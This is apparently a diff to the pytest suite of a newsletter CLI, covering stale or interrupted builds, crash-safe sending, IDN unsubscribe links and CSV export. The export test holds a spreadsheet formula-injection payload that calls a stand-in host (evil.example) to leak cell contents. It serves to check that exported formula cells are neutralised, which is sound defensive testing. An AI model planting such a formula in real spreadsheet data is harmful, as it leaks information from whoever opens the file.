@@ -70,14 +70,68 @@ def test_contacts_commands(workspace):
 
 def test_send_refuses_without_a_current_build(workspace):
     write_contacts(workspace, 2)
+    build_dir = workspace / "build" / "2024-q2"
     result = invoke(workspace, "send", "2024-q2", "--dry-run")
-    assert result.exit_code == 1 and "run `newsletter build 2024-q2` first" in result.stderr
+    assert result.exit_code == 1
+    assert (
+        result.stderr
+        == f"Error: {build_dir}: no build manifest (manifest.json); run `newsletter build 2024-q2` first\n"
+    )
     assert invoke(workspace, "build", "2024-q2", "--format", "email,text").exit_code == 0
     issue = workspace / "issues" / "2024-q2.yaml"
     later = time.time() + 5
-    os.utime(issue, (later, later))  # the editor changed the issue after the build
+    os.utime(issue, (later, later))  # touched, not changed: the build is still the issue's
+    assert invoke(workspace, "send", "2024-q2", "--dry-run").exit_code == 0
+    with open(issue, "a", encoding="utf-8") as handle:
+        handle.write("# a last edit\n")  # the editor changed the issue after the build
     stale = invoke(workspace, "send", "2024-q2", "--dry-run")
-    assert stale.exit_code == 1 and "older than" in stale.stderr
+    assert stale.exit_code == 1
+    assert stale.stderr == (
+        f"Error: {build_dir}: the build is older than the issue file (changed since); "
+        "run `newsletter build 2024-q2` first\n"
+    )
+    pdf = invoke(workspace, "send", "2024-q2", "--dry-run", "--attach-pdf")
+    assert pdf.exit_code == 1
+
+
+def test_a_build_interrupted_between_two_parts_is_refused(workspace, monkeypatch):
+    import importlib
+
+    render_build = importlib.import_module("newsletter.render.build")
+    write_contacts(workspace, 2)
+    assert invoke(workspace, "build", "2024-q2", "--format", "email,text").exit_code == 0
+    issue = workspace / "issues" / "2024-q2.yaml"
+    issue.write_text(
+        issue.read_text(encoding="utf-8").replace("title: Nyhetsbrev", "title: Nyhetsbrev (ny)", 1), encoding="utf-8"
+    )
+    real_write = render_build.atomic_write
+
+    def dies_at_the_text_part(path, data):
+        if path.name == "email.txt":
+            raise KeyboardInterrupt  # Ctrl-C after the HTML part was written
+        real_write(path, data)
+
+    monkeypatch.setattr(render_build, "atomic_write", dies_at_the_text_part)
+    assert invoke(workspace, "build", "2024-q2", "--format", "email,text").exit_code == 1  # click: Aborted!
+    monkeypatch.undo()
+    build_dir = workspace / "build" / "2024-q2"
+    refused = invoke(workspace, "send", "2024-q2", "--dry-run")
+    assert refused.exit_code == 1
+    assert refused.stderr == (
+        f"Error: {build_dir}: the build is older than the issue file (changed since); "
+        "run `newsletter build 2024-q2` first\n"
+    )
+    issue.write_text(
+        issue.read_text(encoding="utf-8").replace("title: Nyhetsbrev (ny)", "title: Nyhetsbrev", 1), encoding="utf-8"
+    )
+    mixed = invoke(workspace, "send", "2024-q2", "--dry-run")  # the sources match the manifest; the HTML does not
+    assert mixed.exit_code == 1
+    assert mixed.stderr == (
+        f"Error: {build_dir}: email.html is not from the same build as the manifest (an interrupted build, or a "
+        "part from another one); run `newsletter build 2024-q2` first\n"
+    )
+    assert invoke(workspace, "build", "2024-q2", "--format", "email,text").exit_code == 0
+    assert invoke(workspace, "send", "2024-q2", "--dry-run").exit_code == 0
 
 
 def test_dry_run_writes_one_correct_eml_per_active_contact_and_never_twice(workspace):
@@ -168,7 +222,7 @@ def test_a_send_killed_at_random_points_delivers_each_message_once(workspace, tm
         invoke(workspace, "contacts", "import", str(write_contacts(workspace, 80)))
         assert invoke(workspace, "build", "2024-q2", "--format", "email,text").exit_code == 0
         env = {**os.environ, "PYTHONPATH": str(REPO), "NEWSLETTER_WORKSPACE": str(workspace)}
-        command = [sys.executable, "-m", "newsletter", "send", "2024-q2"]
+        command = [sys.executable, "-m", "newsletter", "send", "2024-q2", "--yes"]
         chance = random.Random(2024)
 
         def sent_so_far() -> int:
@@ -195,14 +249,17 @@ def test_a_send_killed_at_random_points_delivers_each_message_once(workspace, tm
                     states = {s for (s,) in store.db.execute("SELECT state FROM sends")}
                 mid_send += "sent" in states and bool(states & {"pending", "sending", "unknown"})
                 continue
-            if process.returncode == 0:
+            if process.returncode in (0, 1):  # ran to its end (1: some deliveries are unknown)
                 break
         else:
             pytest.fail("the send never completed")
         final = subprocess.run(command, env=env, capture_output=True, text=True, timeout=60)
-        assert final.returncode == 0, final.stderr
         with Store(workspace / "var" / "newsletter.db") as store:
             states = dict(store.db.execute("SELECT email, state FROM sends WHERE issue = '2024-q2'").fetchall())
+        unknown = sum(state == "unknown" for state in states.values())
+        assert final.returncode == (1 if unknown else 0), final.stderr
+        if unknown:
+            assert f"warning: {unknown} deliveries are unknown" in final.stderr
     finally:
         controller.stop()
     copies = handler.copies()
@@ -213,3 +270,51 @@ def test_a_send_killed_at_random_points_delivers_each_message_once(workspace, tm
             assert copies.get(address, 0) <= 1
         else:
             assert state == "sent" and copies.get(address) == 1, (address, state, copies.get(address))
+
+
+def test_an_idn_recipient_unsubscribes_with_a_link_in_either_form(workspace, monkeypatch):
+    from urllib.parse import quote
+
+    from newsletter.config import load_settings
+    from newsletter.mail.compose import unsubscribe_links
+
+    monkeypatch.setenv("NEWSLETTER_UNSUBSCRIBE_SECRET", "s3cret")
+    with open(workspace / "newsletter.yaml", "a", encoding="utf-8") as handle:
+        handle.write("unsubscribe_url: https://kom.example.no/avmelding\n")
+    for address in ("per@blåbær.no", "kari@blåbær.no"):
+        assert invoke(workspace, "contacts", "add", address).exit_code == 0
+    mail = load_settings(workspace / "newsletter.yaml").mail
+    _mailto, sent = unsubscribe_links("per@blåbær.no", mail)
+    assert "email=per%40xn--blbr-roah.no&" in sent  # the link carries the ASCII form, as the message went out
+    _mailto, other = unsubscribe_links("kari@blåbær.no", mail)
+    unicode_form = other.replace(quote("kari@xn--blbr-roah.no"), quote("kari@blåbær.no"))
+    assert unicode_form != other
+    for url in (sent, unicode_form):
+        result = invoke(workspace, "contacts", "unsubscribe", url)
+        assert result.exit_code == 0, result.output
+    statuses = {c["email"]: c["status"] for c in json.loads(invoke(workspace, "contacts", "list", "--json").stdout)}
+    assert statuses == {"per@blåbær.no": "unsubscribed", "kari@blåbær.no": "unsubscribed"}
+
+
+def test_contacts_export_neutralises_formula_cells_and_imports_back_unchanged(workspace, tmp_path):
+    hostile = '=HYPERLINK("https://evil.example/?x="&A1,"klikk")'
+    assert (
+        invoke(workspace, "contacts", "add", "a@example.org", "--name", hostile, "--organisation", "+47 22").exit_code
+        == 0
+    )
+    assert invoke(workspace, "contacts", "add", "b@example.org", "--name", "@SUM(1)", "--tag", "-helse").exit_code == 0
+    plain = invoke(workspace, "contacts", "export").stdout
+    assert '"\'=HYPERLINK(""https://evil.example/?x=""&A1,""klikk"")"' in plain
+    assert ",'+47 22," in plain and ",'@SUM(1)," in plain and ",'-helse," in plain
+    excel = invoke(workspace, "contacts", "export", "--excel").stdout
+    assert excel.startswith("\ufeffemail;name;organisation;tags;")
+    copy = tmp_path / "kopi.csv"
+    copy.write_text(excel, encoding="utf-8", newline="")
+    other = tmp_path / "other"
+    (other / "var").mkdir(parents=True)
+    for name in ("newsletter.yaml", "feeds.yaml"):
+        (other / name).write_bytes((workspace / name).read_bytes())
+    assert invoke(other, "contacts", "import", str(copy)).exit_code == 0
+    back = {c["email"]: c for c in json.loads(invoke(other, "contacts", "list", "--json").stdout)}
+    assert back["a@example.org"]["name"] == hostile and back["a@example.org"]["organisation"] == "+47 22"
+    assert back["b@example.org"]["name"] == "@SUM(1)" and back["b@example.org"]["tags"] == ["-helse"]
